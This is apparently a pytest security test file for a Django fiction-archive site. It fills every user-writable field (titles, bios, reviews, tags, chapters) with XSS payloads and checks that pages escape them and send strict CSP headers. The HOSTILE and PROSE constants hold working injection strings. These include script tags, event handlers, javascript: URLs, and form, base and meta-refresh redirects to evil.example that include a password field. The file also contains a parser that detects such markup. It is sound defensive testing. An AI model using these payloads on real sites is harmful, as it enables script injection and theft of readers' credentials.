"""Every text that anybody can write, written by somebody who means harm: it stays text."""

from collections.abc import Iterator
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from django.http import HttpResponse
from django.test import Client

from storyhold.accounts.actions import change_profile, invite
from storyhold.accounts.models import Member, PenName
from storyhold.archive.actions import change_archive
from storyhold.reviews.actions.answers import reply_to
from storyhold.reviews.actions.writing import write_review
from storyhold.series.actions import add_story, change_series, create_series
from storyhold.stories.actions.writing import Draft, add_chapter
from storyhold.stories.models import Story
from storyhold.tags.actions import add_tag
from storyhold.tags.actions.kinds import AboutKind, change_kind
from storyhold.tags.actions.ratings import AboutRating, change_rating
from storyhold.tags.models import Rating, TagKind
from tests.cast import change_rules, make_story
from tests.house.walk import World, address, every_address, public_world

pytestmark = [pytest.mark.django_db, pytest.mark.once]

# Out of an attribute, a title, a comment, a script, a textarea; and as prose cleans it.
HOSTILE = (
    "'\"></title></textarea></script><!--]]>--><script>harm()</script><img src=x onerror=harm()>"
    "<svg onload=harm()><a href='java\tscript:harm()'>a</a>{{ harm }}{% harm %}"
)
PROSE = (
    f"{HOSTILE}<p style='background:url(//evil.example)' onclick=harm()>x<iframe srcdoc=x></iframe>"
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=harm()>'>"
    "<form action=//evil.example><input name=password><base href=//evil.example>"
    "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil>"
    "<a href='data:text/html,harm'>b</a><noscript><p title='</noscript><script>harm()</script>'>"
)

ELEMENTS_OF_OTHERS = {"iframe", "object", "embed", "style", "base", "math", "form"}
LEADS = {"href", "src", "action", "formaction", "srcset", "poster", "xlink:href"}


def test_no_page_becomes_anothers_and_each_says_what_a_browser_may_do():
    world = hostile_world()

    for role in ("guest", "ada", "wren"):
        for where, answer, page in answers(world, role):
            if answer["Content-Type"].startswith("text/html"):
                assert harm_in(page.decode()) == [], f"{where} as {role}"
            policy = answer["Content-Security-Policy"]
            assert "default-src 'none'" in policy, where
            assert "script-src 'self';" in f"{policy};", where
            assert "unsafe" not in policy, where
            assert answer["X-Content-Type-Options"] == "nosniff", where
            assert answer["Referrer-Policy"] in ("same-origin", "no-referrer"), where
            assert answer["X-Frame-Options"] == "DENY", where


def test_the_feed_stays_xml():
    hostile_world()

    feed = ElementTree.fromstring(Client().get("/feeds/stories.atom").content)  # noqa: S314

    assert not [each for each in feed.iter() if "script" in each.tag]
    links = [each.get("href", "") for each in feed.iter("{http://www.w3.org/2005/Atom}link")]
    assert all(link.startswith("http://testserver/") for link in links)


def hostile_world() -> World:
    """The small world, with harm in everything that its people can write."""
    world = public_world()
    ada, wren = world.people["ada"], world.people["wren"]
    assert ada
    assert wren
    change_archive(name=HOSTILE[:100], tagline=HOSTILE[:200], welcome=PROSE, terms=PROSE)
    change_rules(guests_may_review=True)
    # No form lets such a name in; an imported archive may have one.
    PenName.objects.filter(member=ada).update(name=HOSTILE[:200])
    change_profile(ada.pen_names.get(), bio=PROSE, website="https://e.example/'\"><script>harm()")
    invite(by=wren, note=HOSTILE)
    story = make_story(
        author=Member.objects.get(pk=ada.pk),
        title=HOSTILE[:250],
        summary=PROSE,
        notes=PROSE,
        tags={"freeform": [HOSTILE.replace(",", "")[:150]]},
        public=True,
        text=PROSE,
    )
    Story.objects.filter(pk=story.pk).update(is_featured=True)
    chapter = add_chapter(
        story,
        Draft(title=HOSTILE[:250], text=PROSE, format="html", opening_note=PROSE,
              closing_note=PROSE),
        by=ada,
        signed_by=ada.pen_name,
    )  # fmt: skip
    first = story.chapters.get(number=1)
    review = write_review(first, by=None, text=PROSE, guest_name=HOSTILE)
    reply_to(review, by=ada.pen_name, text=PROSE)
    series = create_series(title=HOSTILE[:250], summary=PROSE, mode="open", by=ada.pen_name)
    add_story(series, story, by=ada.pen_name)
    kind = TagKind.objects.get(key="category")
    name = HOSTILE[:60]
    change_kind(kind, AboutKind(name=name, name_plural=name, description=PROSE, is_tree=True))
    rating = Rating.objects.get(name="General")
    change_rating(rating, AboutRating(name=name, description=HOSTILE[:200], warning_text=PROSE))
    tag = add_tag(kind, HOSTILE[:150], description=PROSE)
    change_series(series, title=HOSTILE[:250], summary=PROSE, mode="open", tags={"category": [tag]})
    ours = {
        "kind": kind.key,
        "story": story.pk,
        "chapter": chapter.pk,
        "series": series.pk,
        "tag": tag.pk,
    }
    return World(people=world.people, ids={**world.ids, **ours, "review": review.pk})


def answers(world: World, role: str) -> Iterator[tuple[str, HttpResponse, bytes]]:
    """Yield what every address answers, and one that is not there; and the page."""
    browser = world.client(role)
    places = [address(world, name, parameters) for name, parameters in every_address()]
    for where in (*places, "/no/such/page/", "/stories/?letter=<script>harm()</script>"):
        if "sign-out" not in where:
            answer = browser.get(where)
            yield where, answer, answer.getvalue()


class _Harm(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = {name: value or "" for name, value in attrs}
        is_ours = tag != "script" or _is_our_script(said)
        if not is_ours or (tag in ELEMENTS_OF_OTHERS and not _is_our_form(tag, said)):
            self.found.append(f"<{tag} {said}>")
        for name, value in said.items():
            leads_away = name in LEADS and _is_harmful(value)
            if name.startswith("on") or name in ("style", "srcdoc") or leads_away:
                self.found.append(f"{name}={value}")


def _is_our_script(said: dict[str, str]) -> bool:
    # What a page says of itself to search engines runs nowhere; its end is looked for all the same.
    return said.get("src", "").startswith("/static/") or said == {"type": "application/ld+json"}


def _is_our_form(tag: str, said: dict[str, str]) -> bool:
    action = said.get("action", "")
    return tag == "form" and not action.startswith("//") and "evil" not in action


def _is_harmful(address: str) -> bool:
    start = "".join(address.split()).lower()
    return start.startswith(("javascript:", "data:", "vbscript:"))


def harm_in(page: str) -> list[str]:
    """Return what in the page could run, or send a reader's words away."""
    reader = _Harm()
    reader.feed(page)
    return reader.found
